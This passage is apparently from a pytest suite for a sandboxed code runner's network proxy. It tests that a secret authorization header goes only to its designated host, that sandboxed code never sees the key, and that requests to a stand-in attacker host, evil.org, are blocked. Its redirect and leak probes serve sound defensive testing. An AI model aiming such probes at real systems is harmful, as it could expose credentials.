    assert ended.returncode == 125 and f'private_networks: "{value}" is no network' in ended.stderr, ended


# ---- the secret header ----


def secret(adder, host, key, mode=0o600, extra=""):
    """A profile with a header for HOST, the key for which is in a file of MODE."""
    path = adder.config / "key"
    path.write_text(key)
    adder.own(path)
    path.chmod(mode)
    profile = adder.config / "profiles" / "secret.conf"
    profile.write_text(
        f"[profile]\ntitle = secret\n[network]\nmode = allow\nallow = en.wikipedia.org\nsecret_host = {host}\n"
        f"secret_file = {path}\n{extra}"
    )


@pytest.mark.parametrize("scheme", ["http", "https"])
def test_secret_header(make_placed, world, scheme):
    """The key is on requests to its host and no others, and code has it nowhere."""
    adder = make_placed(variables={"SSL_CERT_FILE": str(world.directory / "ca.pem")})
    secret(adder, f"{scheme}://key.example.org", "s3cr3t-key\n")
    code = """
print(get("http://key.example.org/with", Authorization="own"))
print(get("http://en.wikipedia.org/without", Authorization="own"))
print("s3cr3t" in repr(os.environ), get("http://en.wikipedia.org/redirect?to=http://key.example.org:8080/")[:3])
"""
    result = run(adder, code, "secret")
    first, second, rest = result.stdout.splitlines()
    answer = json.loads(first)
    assert ["Authorization", "Bearer s3cr3t-key"] in answer["headers"] and "own" not in first, result
    assert answer["at"] == ("93.184.216.34 443" if scheme == "https" else "93.184.216.34 80")
    assert "s3cr3t" not in second and ["Authorization", "own"] in json.loads(second)["headers"]
    assert rest == "False 403", result
    assert {visit["host"]: visit["port"] for visit in result.network}["key.example.org"] == (443 if scheme == "https" else 80)


def test_certificate_of_the_secret_host_must_be_good(make_placed, world):
    adder = make_placed()
    secret(adder, "https://key.example.org", "s3cr3t-key")
    result = run(adder, "print(get('http://key.example.org/'))", "secret")
    assert "502" in result.stdout and "certificate" in result.stdout and "s3cr3t" not in result.stdout, result


def test_key_that_others_can_read(make_placed, world):
    adder = make_placed()
    secret(adder, "http://key.example.org", "s3cr3t-key", mode=0o644)
    result = run(adder, "print(get('http://key.example.org/'))", "secret")
    assert "502" in result.stdout and "s3cr3t" not in repr(result), result
    assert details(result) == ["connect key.example.org"] and "secret_file" in result.denials[0]["hint"]


def test_key_from_a_variable(make_placed, world):
    adder = make_placed(variables={"EXAMPLE_KEY": "from-variable"})
    (adder.config / "profiles" / "secret.conf").write_text(
        "[profile]\ntitle = secret\n[network]\nmode = allow\nsecret_host = http://key.example.org\n"
        "secret_header = X-Api-Key: {}\nsecret_variable = EXAMPLE_KEY\n"
    )
    result = run(adder, "print(get('http://key.example.org/'), os.environ.get('EXAMPLE_KEY'))", "secret")
    assert '["X-Api-Key", "from-variable"]' in result.stdout and result.stdout.endswith(" None\n"), result


# ---- sessions ----


def test_session(placed, world):
    """A session keeps its namespace and its proxy; each cell tells of its own; branches share them."""
    sessions = harness.Sessions(placed)
    session = sessions.new("--profile", "net")
    sessions.cell(session, PRELUDE)
    for number in range(2):
        result = sessions.cell(session, f"print(json.loads(get('http://api.example.org/{number}'))['path'])")
        assert result.stdout == f"/{number}\n" and result.network[0]["connections"] == 1, result
    result = sessions.cell(session, "print(get('http://evil.org/')[:3])")
    assert result.stdout == "403\n" and details(result) == ["connect evil.org:80"] and result.network == []
    branch = sessions.ask("branch", session)["sessions"][0]["session_id"]
    sessions.made.append(branch)
    result = sessions.cell(branch, "print(json.loads(get('http://api.example.org/branch'))['path'])")
    assert result.stdout == "/branch\n" and result.denials == [], result
    placed.call("session", "rm", session)
    result = sessions.cell(branch, "print(json.loads(get('http://api.example.org/alone'))['path'], get('http://evil.org/')[:3])")
    assert result.stdout == "/alone 403\n" and world.reached() == [], result
    sessions.end_all()
    harness.wait_until(lambda: link_threads(placed) == 0, "the connections to end")


# ---- where there are no namespaces ----


@pytest.mark.parametrize("isolation", ["process", "none"])
def test_proxy_needs_namespaces(placed, isolation):
    result = placed.run("print(1)", "--profile", "net", "--isolation", isolation)
    assert result.outcome == "refused" and "network namespace of its own" in result.error["message"], result


def test_full_without_namespaces(placed):
    result = run(placed, "print(json.loads(get('http://93.184.216.34/'))['at'])", "full", "--isolation", "process")
    assert result.stdout == "93.184.216.34 80\n" and result.isolation["level"] == 1, result
    result = run(placed, "print(get('http://93.184.216.34/'))", "none", "--isolation", "process")
    assert "93.184.216.34 80" not in result.stdout, result


# ---- profiles ----


@pytest.mark.parametrize(
    "lines, said",
    [
        ("mode = some", "not one of: none, allow, full"),
        ("mode = allow\nallow = http://a.org", '"http://a.org" is no host'),
        ("mode = allow\nallow = a.org:99999", "is no host"),
        ("mode = allow\nallow = a..org", "is no host"),
        ("mode = allow\nallow = *.", "is no host"),
        ("mode = allow\nallow = a.*.org", "is no host"),
        ("mode = allow\nallow = 10.1.0.1/16", "is no host"),
        ("mode = allow\nallow = 0x7f.1", "is no host"),
        ("mode = full\nallow = a.org", "mode = allow alone"),
        ("allow = a.org", "mode = allow alone"),
        ("mode = allow\nsecret_host = a.org", "no host with a scheme"),
        ("mode = allow\nsecret_host = https://a.org", "secret_file or secret_variable"),
        ("mode = allow\nsecret_file = key\nsecret_host = https://a.org", "not an absolute path"),
        ("mode = allow\nsecret_host = https://a.org\nsecret_file = /k\nsecret_variable = K", "not from both"),
        ("mode = allow\nsecret_host = https://a.org\nsecret_file = /k\nsecret_header = Host: {}", "no header"),
        ("mode = allow\nsecret_host = https://a.org\nsecret_file = /k\nsecret_header = X-Key", "no header"),
        ("mode = allow\nsecret_file = /k", "no secret_host"),
    ],
)
def test_wrong_profile(own_adder, lines, said):
    folder = own_adder.config / "profiles"
    folder.mkdir()
    os.chmod(folder, 0o755)
    (folder / "wrong.conf").write_text(f"[profile]\ntitle = wrong\n[network]\n{lines}\n")
    ended = own_adder.call("run", "--no-daemon", "--profile", "wrong", "-c", "print(1)")
    assert ended.returncode == 125 and said in ended.stderr and "[network]" in ended.stderr, ended
